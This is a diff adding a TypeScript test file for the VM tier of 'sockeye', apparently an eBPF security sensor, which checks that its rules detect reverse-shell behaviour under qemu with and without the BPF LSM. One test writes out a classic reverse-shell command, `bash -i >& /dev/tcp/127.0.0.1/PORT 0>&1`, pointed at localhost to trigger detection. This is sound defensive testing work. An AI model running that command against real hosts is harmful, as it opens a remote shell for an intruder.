@@ -1,0 +1,256 @@
+/**
+ * VM tier (design.md §6, issue 6): a real Debian kernel under qemu, where BPF LSM works, with
+ * the built package running inside (test/vm/run.sh boots it, test/vm/guest/entry.mjs runs the
+ * cases). This file asserts on what the guest observed.
+ *
+ * Another kernel: SOCKEYE_VM_KERNEL=/boot/vmlinuz-X or SOCKEYE_VM_DEB=linux-image-X.deb
+ * (SOCKEYE_VM_APPEND adds to its command line), then `npm run test:vm`.
+ *
+ * Outside CI the tier skips, with the reason printed, when something it needs cannot be had
+ * (run.sh exit 3: qemu, busybox-static, the kernel package, ...); with CI=true it fails.
+ */
+import { spawn } from "node:child_process";
+import { readFileSync } from "node:fs";
+import { fileURLToPath } from "node:url";
+import { dirname, join } from "node:path";
+import { beforeAll, describe, expect, it } from "vitest";
+
+const inCI = process.env.CI === "true";
+const here = dirname(fileURLToPath(import.meta.url));
+const ELASTIC_ID = "259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39";
+
+interface Candidate { capability: string; program: string; live: boolean; reason: string }
+interface Summary {
+  ruleId: string;
+  processName?: string;
+  processArgs?: string[];
+  parentName?: string;
+  finding: { "IP address": string; Port: string; "File descriptor": number } | null;
+  destination: { ip: string; port: number } | null;
+  eventKind: string;
+  source: string | null;
+  syscall: string | null;
+  filename: string | null;
+}
+interface Connect { pid: number; comm: string; fd: number; family: string; source: string; remote: { address: string; port: number } | null; unixPath: string | null }
+interface Case {
+  name: string;
+  expect: string;
+  port: number | null;
+  status: number | null;
+  signal: string | null;
+  stderr: string;
+  durationMs: number;
+  findings: Summary[];
+  execs: { filename: string; args: string[] }[];
+  connects: Connect[];
+}
+interface Results {
+  kernel: string;
+  lsm: string | null;
+  cmdline: string;
+  uptimeAtEntry: number;
+  uptimeAtExit: number;
+  probe: { candidates: Candidate[]; features: { bpfLsm: boolean; lsmList: string }; error: unknown } | null;
+  probeWithoutLsm: { candidates: Candidate[] } | null;
+  programs: Candidate[];
+  cases: Case[];
+  warnings: unknown[];
+  counters: Record<string, { emitted: number; lost: number; errors: number }> | null;
+  error: { message: string } | null;
+  durationMs: number;
+}
+
+type Outcome = { kind: "ok"; results: Results; seconds: number } | { kind: "unavailable" | "failed"; reason: string };
+
+/** Boots the VM through run.sh; its last stderr line is the one-line reason on failure. */
+function boot(mode: Mode): Promise<Outcome> {
+  const args = [join(here, "run.sh"), "--out", join(here, ".cache", `run-${mode.id}`)];
+  if (process.env.SOCKEYE_VM_KERNEL) args.push("--kernel", process.env.SOCKEYE_VM_KERNEL);
+  if (process.env.SOCKEYE_VM_DEB) args.push("--deb", process.env.SOCKEYE_VM_DEB);
+  const append = [process.env.SOCKEYE_VM_APPEND, mode.append].filter(Boolean).join(" ");
+  if (append) args.push("--append", append);
+  if (process.env.SOCKEYE_VM_TIMEOUT) args.push("--timeout", process.env.SOCKEYE_VM_TIMEOUT);
+  const started = Date.now();
+  return new Promise((resolve) => {
+    const child = spawn("bash", args, { stdio: ["ignore", "pipe", "pipe"] });
+    let stdout = "", stderr = "";
+    child.stdout.on("data", (d) => (stdout += d));
+    child.stderr.on("data", (d) => {
+      stderr += d;
+      process.stderr.write(d); // progress (fetch, boot, timings) is worth seeing in the run
+    });
+    child.on("error", (e) => resolve({ kind: "failed", reason: `cannot run test/vm/run.sh: ${e.message}` }));
+    child.on("close", (code) => {
+      const reason = stderr.trim().split("\n").pop() ?? `test/vm/run.sh exited ${code}`;
+      if (code === 3) return resolve({ kind: "unavailable", reason });
+      if (code !== 0) return resolve({ kind: "failed", reason: reason || `test/vm/run.sh exited ${code}` });
+      try {
+        const results = JSON.parse(readFileSync(stdout.trim(), "utf8")) as Results;
+        resolve({ kind: "ok", results, seconds: (Date.now() - started) / 1000 });
+      } catch (e) {
+        resolve({ kind: "failed", reason: `unreadable results from test/vm/run.sh: ${(e as Error).message}` });
+      }
+    });
+  });
+}
+
+/**
+ * The same guest suite, booted twice: once as the kernel comes (Debian's lists the bpf LSM),
+ * once with an LSM list that leaves bpf out. There the lsm/ program would load and attach but
+ * never run, so the sensor must pass it over and detect through fentry instead.
+ */
+interface Mode { id: string; title: string; append: string; connectProgram: string; source: string }
+const MODES: Mode[] = [
+  { id: "lsm", title: "the BPF LSM path", append: "", connectProgram: "lsm/socket_connect", source: "lsm" },
+  { id: "no-bpf-lsm", title: "booted with lsm= without bpf (fentry path)", append: "lsm=lockdown,yama", connectProgram: "fentry/security_socket_connect", source: "fentry" },
+];
+
+for (const mode of MODES) describe(`vm: sockeye in a Debian kernel under qemu, ${mode.title}`, () => {
+  let outcome: Outcome;
+  let r: Results;
+
+  beforeAll(async () => {
+    outcome = await boot(mode);
+    if (outcome.kind === "ok") {
+      r = outcome.results;
+      console.log(`vm tier: kernel ${r.kernel}, suite at guest uptime ${r.uptimeAtEntry}s, guest suite ${(r.durationMs / 1000).toFixed(1)}s, whole boot ${outcome.seconds.toFixed(1)}s`);
+    } else if (outcome.kind === "unavailable" && !inCI) {
+      console.warn(`vm tier skipped: ${outcome.reason}`);
+    }
+  });
+
+  /** Every test goes through this: skip (outside CI, unavailable), fail with the reason, or run. */
+  function vmIt(name: string, body: () => void) {
+    it(name, (ctx) => {
+      if (outcome.kind === "unavailable" && !inCI) ctx.skip();
+      if (outcome.kind !== "ok") throw new Error(`vm tier: ${outcome.reason}`);
+      body();
+    });
+  }
+
+  const caseOf = (name: string): Case => {
+    const c = r.cases.find((x) => x.name === name);
+    if (!c) throw new Error(`the guest ran no case named ${name} (ran: ${r.cases.map((x) => x.name).join(", ")})`);
+    return c;
+  };
+  const trc101 = (c: Case) => c.findings.filter((f) => f.ruleId === "TRC-101");
+  const live = (cands: Candidate[], capability: string) => cands.filter((x) => x.capability === capability && x.live).map((x) => x.program);
+
+  vmIt("the guest suite ran to the end without an error", () => {
+    expect(r.error).toBeNull();
+    expect(r.cases.map((c) => c.name)).toEqual([
+      "connect-fd0", "dup2-fd1", "dup3-fd0", "setsid-bash-dev-tcp",
+      "socket-onto-fd5", "file-onto-fd1", "connect-fd3", "setsid-sleep", "unix-fd0", "nohup-no-dev-tcp",
+    ]);
+    expect(r.warnings).toEqual([]);
+  });
+
+  if (mode.id === "lsm") {
+    vmIt("probe: the bpf LSM is active and lsm/socket_connect serves connect", () => {
+      expect(r.probe!.error).toBeNull();
+      expect(r.probe!.features.bpfLsm).toBe(true);
+      expect(r.probe!.features.lsmList.split(",")).toContain("bpf");
+      const connect = r.probe!.candidates.filter((x) => x.capability === "connect");
+      expect(connect[0]).toEqual({ capability: "connect", program: "lsm/socket_connect", live: true, reason: "" });
+    });
+  } else {
+    vmIt("probe: bpf is not an active LSM, so lsm/socket_connect is passed over with that reason", () => {
+      expect(r.probe!.error).toBeNull();
+      expect(r.probe!.features.lsmList.split(",")).not.toContain("bpf");
+      const lsm = r.probe!.candidates.find((x) => x.program === "lsm/socket_connect");
+      expect(lsm).toMatchObject({ live: false });
+      expect(lsm!.reason).toMatch(/^bpf is not an active LSM \(.*\): boot with lsm=.*,bpf to use it$/);
+    });
+  }
+
+  vmIt(`probe and the sensor: ${mode.connectProgram} serves connect`, () => {
+    expect(live(r.probe!.candidates, "connect")).toEqual([mode.connectProgram]);
+    // The sensor that ran the cases chose the same.
+    expect(live(r.programs, "connect")).toEqual([mode.connectProgram]);
+    for (const cap of ["socket_dup", "accept", "process"]) expect(live(r.programs, cap)).toHaveLength(1);
+  });
+
+  vmIt("probe: with the LSM program skipped, fentry/security_socket_connect serves connect", () => {
+    expect(live(r.probeWithoutLsm!.candidates, "connect")).toEqual(["fentry/security_socket_connect"]);
+  });
+
+  vmIt(`TRC-101 fires for a connect made on fd 0, seen by ${mode.connectProgram}`, () => {
+    const c = caseOf("connect-fd0");
+    expect(c.status, c.stderr).toBe(0);
+    const found = trc101(c);
+    expect(found).toHaveLength(1);
+    expect(found[0]).toMatchObject({
+      processName: "sockhelper",
+      eventKind: "connect",
+      source: mode.source,
+      finding: { "IP address": "127.0.0.1", Port: String(c.port), "File descriptor": 0 },
+      destination: { ip: "127.0.0.1", port: c.port },
+    });
+    expect(c.findings).toHaveLength(1);
+  });
+
+  for (const [name, syscall, fd] of [["dup2-fd1", "dup2", 1], ["dup3-fd0", "dup3", 0]] as const) {
+    vmIt(`TRC-101 fires for ${syscall} of a connected socket onto fd ${fd}`, () => {
+      const c = caseOf(name);
+      expect(c.status, c.stderr).toBe(0);
+      const found = trc101(c);
+      expect(found).toHaveLength(1);
+      expect(found[0]).toMatchObject({
+        processName: "sockhelper",
+        eventKind: "socket_dup",
+        syscall,
+        finding: { "IP address": "127.0.0.1", Port: String(c.port), "File descriptor": fd },
+      });
+      expect(c.findings).toHaveLength(1);
+    });
+  }
+
+  vmIt("the Elastic rule fires for setsid bash -c '... /dev/tcp/...' launched from bash", () => {
+    const c = caseOf("setsid-bash-dev-tcp");
+    expect(c.status, c.stderr).toBe(0);
+    const elastic = c.findings.filter((f) => f.ruleId === ELASTIC_ID);
+    expect(elastic).toHaveLength(1);
+    expect(elastic[0]).toMatchObject({
+      processName: "setsid",
+      parentName: "bash",
+      eventKind: "exec",
+      filename: "/usr/bin/setsid",
+      processArgs: ["setsid", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${c.port} 0>&1`],
+    });
+    // The shell it starts puts the socket on stdio: TRC-101 sees that too.
+    const shell = trc101(c);
+    expect(shell.length).toBeGreaterThanOrEqual(1);
+    expect(shell[0]).toMatchObject({ processName: "bash", finding: { "IP address": "127.0.0.1", Port: String(c.port) } });
+  });
+
+  for (const name of ["socket-onto-fd5", "file-onto-fd1", "connect-fd3", "setsid-sleep", "nohup-no-dev-tcp", "unix-fd0"]) {
+    vmIt(`negative stays silent: ${name}`, () => {
+      const c = caseOf(name);
+      // The process did what the case says (else its silence proves nothing) ...
+      expect(c.status, c.stderr).toBe(0);
+      expect(c.execs.length).toBeGreaterThanOrEqual(1);
+      // ... and no rule said a word while it ran.
+      expect(c.findings).toEqual([]);
+    });
+  }
+
+  vmIt("the negatives really ran what they name", () => {
+    expect(caseOf("setsid-sleep").execs.map((e) => e.filename)).toContain("/usr/bin/setsid");
+    expect(caseOf("nohup-no-dev-tcp").execs.map((e) => e.filename)).toContain("/usr/bin/nohup");
+    // connect on fd 3 is not stdio: filtered in the kernel, it never reaches userspace.
+    expect(caseOf("connect-fd3").connects).toEqual([]);
+    // AF_UNIX on fd 0 reaches userspace through the connect hook with its path read, and
+    // TRC-101 (inet only) stays silent on it.
+    const unix = caseOf("unix-fd0").connects;
+    expect(unix).toHaveLength(1);
+    expect(unix[0]).toMatchObject({ fd: 0, family: "unix", source: mode.source, unixPath: "/tmp/sockeye-vm.sock", remote: null });
+  });
+
+  vmIt("nothing was lost and no hook counted an error", () => {
+    for (const [hook, c] of Object.entries(r.counters!)) {
+      expect({ hook, lost: c.lost, errors: c.errors }).toEqual({ hook, lost: 0, errors: 0 });
+    }
+    expect(r.counters!["connect"]!.emitted).toBeGreaterThanOrEqual(2);
+  });
+});
